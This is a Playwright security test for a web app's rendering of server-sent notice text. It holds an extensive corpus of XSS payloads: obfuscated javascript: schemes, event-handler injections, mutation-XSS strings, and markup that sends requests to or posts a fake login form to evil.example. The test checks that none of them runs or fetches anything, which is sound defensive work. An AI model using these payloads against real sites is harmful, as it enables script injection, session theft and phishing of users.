import { expect, test } from '../support/test.ts';

const ACTIVITY = {
  type: 'activity',
  createtime: 1,
  read: true,
  important: false,
  top: false,
  attachment: null,
};

/** Returns, for each text of the page, the elements and attributes that must not be there. */
function findForeign(): string[][] {
  const tags = /^(P|BR|STRONG|EM|H[2-4]|UL|OL|LI|A|IMG|TABLE|CAPTION|THEAD|TBODY|TFOOT|TR|TH|TD)$/;
  const names = /^(href|src|alt|colspan|rowspan|scope|rel)$/;
  const isForeign = ({ name, value }: Attr) => {
    const isAddress = name === 'href' || name === 'src';
    const isKnown = name === 'href' ? /^(#\/|https?:\/\/)/ : /^(data:image\/|\/uploads\/)/;
    return !names.test(name) || (isAddress && !isKnown.test(value)) || /@|\.\./.test(value);
  };
  return Array.from(document.querySelectorAll('main details'), (text) => {
    // The app wraps a text in a title and two nested boxes.
    const [title, box, ...more] = text.children;
    const around = [box, box?.firstElementChild];
    const within = Array.from(text.querySelectorAll('*')).filter(
      (part) => !title?.contains(part) && !around.includes(part),
    );
    return [
      ...more.map((part) => part.outerHTML),
      ...within.filter(({ tagName }) => !tags.test(tagName)).map((part) => part.outerHTML),
      ...within.flatMap(({ attributes }) =>
        Array.from(attributes)
          .filter(isForeign)
          .map(({ name, value }) => `${name}=${value}`),
      ),
    ];
  });
}

/**
 * HTML that tries to run scripts, imitate the app or leak who reads it. Scripts call `hit()`, and
 * external requests go to evil.example.
 */
const HIT = 'hit()';
const EVIL = 'https://evil.example/x';

const HANDLERS = (
  'onclick onload onerror onfocus onblur onmouseover onpointerenter onanimationstart ' +
  'onanimationend ontransitionend ontoggle onbeforetoggle onwheel onscroll onscrollend onpaste ' +
  'oncopy oncut ondrag ondrop oninput onchange onsubmit onkeydown onbegin onend onrepeat ' +
  'oncontentvisibilityautostatechange'
).split(' ');

const SCHEMES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` javascript:${HIT}`,
  `java&#10;script:${HIT}`,
  `java&Tab;script:${HIT}`,
  `&#1;javascript:${HIT}`,
  `&#106;avascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `javascript://known.example/%0a${HIT}`,
  `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>`,
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'intent://evil.example#Intent;scheme=https;end',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://known.example@evil.example/x',
];

const RUNNING = [
  `<script>${HIT}</script>`,
  `<script src="${EVIL}"></script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<SCRIPT>${HIT}</SCRIPT >`,
  `<script/x>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src="x" onerror="${HIT}"`,
  `<img/src/onerror=${HIT}>`,
  `<img src=x:x onerror\n=\n${HIT}>`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><script href="${EVIL}"/></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${HIT}"/><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${HIT}></annotation-xml></math>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<video><source onerror=${HIT}></video>`,
  `<template><script>${HIT}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${HIT}></template></div>`,
];

/** Elements that no text needs: they run scripts, send requests or take the focus by themselves. */
const ELEMENTS = (
  'iframe object embed body details video audio marquee input select div p form button dialog ' +
  'base link meta style svg math x custom-element'
).split(' ');

/** Mutation XSS: harmless when parsed once, dangerous when serialised and parsed again. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${HIT}>">`,
  `<svg><title><style><img src=x onerror=${HIT}></style></title></svg>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${HIT}>]]></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `<noembed><p title="</noembed><img src=x onerror=${HIT}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${HIT}>">`,
  `<title><p title="</title><img src=x onerror=${HIT}>">`,
  `<plaintext><img src=x onerror=${HIT}>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<!--!><img src=x onerror=${HIT}>`,
  `<? foo="><img src=x onerror=${HIT}>">`,
  `<a title='"><img src=x onerror=${HIT}>'>x</a>`,
  `<table><td><a><table><img src=x onerror=${HIT}></table></a></td></table>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${HIT}>`,
];

/** Runs no script, but would imitate the app, break it or send requests. */
const PRETENDING = [
  `<style>@import "${EVIL}";*{display:none}</style>`,
  `<link rel=prefetch href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<p style="position:fixed;inset:0;background:url(${EVIL})">x</p>`,
  `<p style="background:image-set('${EVIL}' 1x)">x</p>`,
  `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
  `<img src="${EVIL}.png">`,
  `<img srcset="${EVIL}.png 1x">`,
  `<picture><source srcset="${EVIL}.png"><img></picture>`,
  `<img src="//evil.example/x.png">`,
  `<img src="/\\evil.example/x.png">`,
  `<img src="/uploads/../api/user/logout">`,
  `<img src="/api/user/logout">`,
  `<img lowsrc="${EVIL}" dynsrc="${EVIL}">`,
  `<svg><image href="${EVIL}.png"/></svg>`,
  `<form action="${EVIL}"><input name=password type=password><button>Log in</button></form>`,
  `<p popover id=pop>Log in again</p>`,
  `<a href="https://known.example" ping="${EVIL}">x</a>`,
  `<a href="${EVIL}" target=_top>x</a>`,
  `<p class="visually-hidden" id="pages" name="cookie">x</p>`,
  `<a id=location href="${EVIL}">x</a><a id=location name=href href="${EVIL}">x</a>`,
  `<img name=body src="/uploads/a.png"><img id=getElementById src="/uploads/a.png">`,
  `<form id=document><input name=cookie></form>`,
  `<p role=alert aria-live=assertive data-theme=dark>x</p>`,
  `<p slot=x is=x-y part=z itemprop=a contenteditable draggable=true>x</p>`,
];

const EVERY_HANDLER = HANDLERS.map((handler) => `${handler}="${HIT}"`).join(' ');

const PAYLOADS: readonly string[] = [
  `<p ${EVERY_HANDLER} id=x tabindex=0>x</p>`,
  `<img src="/uploads/a.png" ${EVERY_HANDLER}>`,
  ...SCHEMES.map((address) => `<a href="${address}">x</a>`),
  ...SCHEMES.map((address) => `<img src="${address}">`),
  ...SCHEMES.map((address) => `<p><a xlink:href="${address}" action="${address}">x</a></p>`),
  ...ELEMENTS.map(
    (tag) => `<${tag} ${EVERY_HANDLER} src="javascript:${HIT}" data="javascript:${HIT}">x</${tag}>`,
  ),
  ...ELEMENTS.map((tag) => `<${tag} autofocus open tabindex=1 onfocus=${HIT} ontoggle=${HIT}>x`),
  ...ELEMENTS.map(
    (tag) =>
      `<${tag} src="${EVIL}" href="${EVIL}" data="${EVIL}" poster="${EVIL}" action="${EVIL}" autoplay>x</${tag}>`,
  ),
  ...RUNNING,
  ...MUTATING,
  ...PRETENDING,
];

test('untrusted HTML runs, frames and fetches nothing', async ({ page, watch }) => {
  // The browser logs these while parsing, before the HTML is part of a page.
  watch.expect(/inline event handler/);
  watch.expect(/document's base URI/);
  watch.expect(/Applying inline style/);
  const dialogs: string[] = [];
  const strangers: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) strangers.push(request.url());
  });
  await page.route('**/uploads/a.png', (route) =>
    route.fulfill({ contentType: 'image/png', body: '' }),
  );
  let hits = 0;
  await page.exposeFunction('hit', () => (hits += 1));
  // The activities of the offers show every text that the server sends.
  const list = PAYLOADS.map((content, at) => ({
    ...ACTIVITY,
    id: at + 1,
    content,
    title: `Text ${at}.`,
  }));
  const data = { list, total: list.length, page: 1, limit: list.length, unread: 0 };
  await page.route('**/api/index/notice*', (route) =>
    route.fulfill({ json: { code: 1, msg: '', time: '0', data } }),
  );
  await page.goto('/#/pages/index/discount');
  await page.getByText(`Text ${PAYLOADS.length - 1}.`).waitFor();
  await page.evaluate(() => {
    for (const text of document.querySelectorAll('main details')) text.setAttribute('open', '');
    const types = ['pointerenter', 'mouseover', 'focus', 'animationstart', 'wheel', 'toggle'];
    for (const part of document.querySelectorAll('main details *'))
      for (const type of types) part.dispatchEvent(new Event(type, { bubbles: true }));
  });
  const foreign = await page.evaluate(findForeign);
  expect(foreign).toHaveLength(PAYLOADS.length);
  const letIn = foreign.flatMap((found, at) => (found.length > 0 ? [[PAYLOADS[at], found]] : []));
  expect(letIn).toEqual([]);
  expect({ hits, dialogs, strangers }).toEqual({ hits: 0, dialogs: [], strangers: [] });
});
